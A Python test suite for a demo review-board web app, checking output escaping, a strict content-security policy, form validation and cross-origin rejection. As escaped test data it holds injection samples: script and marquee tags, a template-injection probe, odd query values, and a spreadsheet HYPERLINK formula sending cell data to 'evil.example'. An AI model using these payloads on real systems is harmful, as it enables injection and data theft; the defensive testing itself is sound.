"""The pages: everything stands there, nothing anybody wrote becomes markup."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlencode

import pytest

from monitor.demo.server import DemoServer
from tests.support.marmalade import Caller

FORM = {"Content-Type": "application/x-www-form-urlencoded"}


class Outline(HTMLParser):
    """Collects tags, and checks that every field has a name for those who cannot see it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.targets: set[str] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.targets |= {value or "" for name, value in attrs if name in ("href", "src", "action")}


@pytest.fixture
def played(tmp_path: Path):
    with DemoServer(tmp_path / "demo.db", speed=1e9) as demo:
        ask = Caller(demo)
        for board in ("reviews", "feed"):
            for item in ask.items(board):
                if not item["deleted"] and (item["stars"] or 1) == 1:
                    text = f"<b>Dear</b> {item['author']['name']}, sorry."
                    path = f"/api/v1/{board}/{item['id']}"
                    verb, end = ("PUT", "/reply") if board == "reviews" else ("POST", "/comments")
                    assert ask(verb, path + end, {"text": text}).status == 201
        yield ask


def every_page(ask: Caller) -> dict[str, str]:
    paths = ["/", "/feed", "/write", "/control", "/?stars=1", "/?location=quay&language=de"]
    paths += [f"/?page={n}" for n in range(2, 9)] + ["/feed?page=2", "/feed?live=1"]
    mentions = ask("GET", "/control/ledger").json()["mentions"]
    paths += [m["path"] for m in mentions if not m["deleted"] and m["type"] != "comment"]
    pages = {}
    for path in paths:
        told = ask("GET", path)
        assert told.status == 200, path
        pages[path] = told.text
    return pages


def test_no_page_lets_a_hostile_text_become_markup(played):
    pages = every_page(played)
    for path, text in pages.items():
        outline = Outline(text)
        assert not outline.tags & {"script", "marquee", "b", "object", "iframe", "style"}, path
        assert not {name for name in outline.attributes if name.startswith("on")}, path
        assert "style" not in outline.attributes, path
        assert not {t for t in outline.targets if "evil.example" in t or "javascript:" in t}, path
    board = "\n".join(pages.values())
    assert "&lt;script&gt;document.title=" in board
    assert "&lt;marquee&gt;" in board
    assert "{{ 7*7 }}" in board
    assert "&lt;b&gt;Dear&lt;/b&gt;" in board
    assert "&lt;!channel&gt;" in board
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;Click" in board


def test_every_answer_carries_a_strict_policy(played):
    for path in ("/", "/control", "/api/health", "/static/marmalade.css", "/nowhere"):
        policy = played("GET", path).headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "script-src" not in policy


def test_an_answer_stands_under_its_review_with_the_authors_reaction(ask, clock):
    (review,) = ask.items()
    ask("PUT", f"/api/v1/reviews/{review['id']}/reply", {"text": "Warm tea is on us."})
    clock.move(seconds=2)
    page = ask("GET", f"/reviews/{review['id']}").text
    assert page.index("Cold tea, warm answer.") < page.index("Warm tea is on us.")
    assert page.index("Warm tea is on us.") < page.index("Thanks, bye.")
    assert "4 of 5 stars" in page
    assert "edited" in page
    assert "Warm tea is on us." in ask("GET", "/").text


def test_the_board_shows_newest_first_and_leaves_out_what_was_taken_down(ask, clock):
    clock.move(hours=1)
    page = ask("GET", "/").text
    assert page.index("Good.") < page.index("Was fine.") < page.index("Cold tea.")
    assert "Hm." not in page
    assert "3 reviews" in page


def test_the_board_can_be_narrowed_and_says_so_when_nothing_is_left(ask, clock):
    clock.move(hours=1)
    assert "Was fine." not in ask("GET", "/?location=quay").text
    empty = ask("GET", "/?location=quay&stars=5")
    assert empty.status == 200
    assert "Nobody has written such a review" in empty.text


def test_strange_queries_are_taken_for_none(ask):
    for query in ("page=0", "page=-1", f"page={'9' * 5000}", "page=²", "stars=9", "stars=12",
                  "location='--", "language=%00", "live=2"):  # fmt: skip
        told = ask("GET", f"/?{query.replace('²', '%C2%B2')}")
        assert told.status == 200
        assert "refresh" not in told.headers


def test_an_empty_platform_says_so(tmp_path: Path):
    with DemoServer(tmp_path / "demo.db", week=()) as demo:
        ask = Caller(demo)
        assert "The week has only begun" in ask("GET", "/").text
        assert "It is quiet" in ask("GET", "/feed").text
        assert "has not answered anybody yet" in ask("GET", "/control").text


def test_following_live_asks_the_browser_to_come_back(ask):
    assert ask("GET", "/?live=1").headers["refresh"] == "10"
    assert ask("GET", "/feed?live=1").headers["refresh"] == "10"


def write(ask, **fields):
    return ask("POST", "/write", raw=urlencode(fields).encode(), headers=FORM)


def test_a_visitor_can_write_a_review_and_a_post(ask):
    told = write(ask, board="reviews", author="Zoe", stars="2", text="Stale bun", location="mill")
    assert told.status == 303
    assert "Stale bun" in ask("GET", told.headers["location"]).text
    found = next(item for item in ask.items() if item["text"] == "Stale bun")
    assert (found["stars"], found["location"]["key"], found["author"]["name"]) == (2, "mill", "Zoe")
    told = write(ask, board="feed", author="", stars="5", text="Nice quay", title="ignored")
    assert "Nice quay" in ask("GET", told.headers["location"]).text
    assert ask.items("feed")[-1]["author"]["name"] == "A Marmalade user"


def test_a_form_that_cannot_be_published_comes_back_with_what_was_typed(ask):
    for fields in (
        {"board": "reviews", "text": "No stars"},
        {"board": "feed", "text": "  "},
        {"stars": "x"},
        {"stars": "9"},
        {"stars": "1", "location": "moon"},
        {"stars": "1", "board": "moon"},
        {"stars": "1", "text": "x" * 100_001},
    ):
        told = write(ask, **{"title": "My <title>", **fields})
        assert told.status == 422, fields
        assert 'role="alert"' in told.text
        assert "My &lt;title&gt;" in told.text
    assert len(ask.items()) + len(ask.items("feed")) == 2


def test_the_control_page_turns_switches_and_the_clock(ask):
    def press(**fields):
        return ask("POST", "/control", raw=urlencode(fields).encode(), headers=FORM).status

    assert press(act="on", name="rate_limited", times="3", chance="50") == 303
    assert "chance 50 %" in ask("GET", "/control").text
    on = ask("GET", "/control/faults").json()["on"]["rate_limited"]
    assert (on["times"], on["probability"]) == (3, 0.5)
    assert press(act="off", name="rate_limited") == 303
    assert ask("GET", "/control/faults").json()["on"] == {}
    assert press(act="skip", value="1d") == 303
    assert "Tuesday 07:00" in ask("GET", "/control").text
    assert press(act="speed", value="60") == 303
    assert ask("GET", "/control/clock").json()["speed"] == 60
    assert press(act="again") == 303
    assert ask("GET", "/control/clock").json()["week"] == 2
    for name in ("gremlins", ""):
        assert press(act="on", name=name) == 422
    assert press(act="on", name="truncated", times="x") == 422
    assert press(act="skip", value="soon") == 422
    assert press(act="speed", value="fast") == 422
    assert press(act="dance") == 400


def test_a_form_sent_from_another_site_changes_nothing(ask):
    headers = {**FORM, "Origin": "https://evil.example"}
    told = ask("POST", "/control", raw=b"act=on&name=rate_limited", headers=headers)
    assert told.status == 403
    assert ask("GET", "/control/faults").json()["on"] == {}
    own = {**FORM, "Origin": ask.demo.base_url}
    assert ask("POST", "/control", raw=b"act=on&name=rate_limited", headers=own).status == 303


def test_a_link_to_nothing_is_a_page_too(ask):
    (review,) = ask.items()
    for path in ("/reviews/r9", "/posts/p9", f"/posts/{review['id']}"):
        told = ask("GET", path)
        assert told.status == 404
        assert "There is nothing here" in told.text
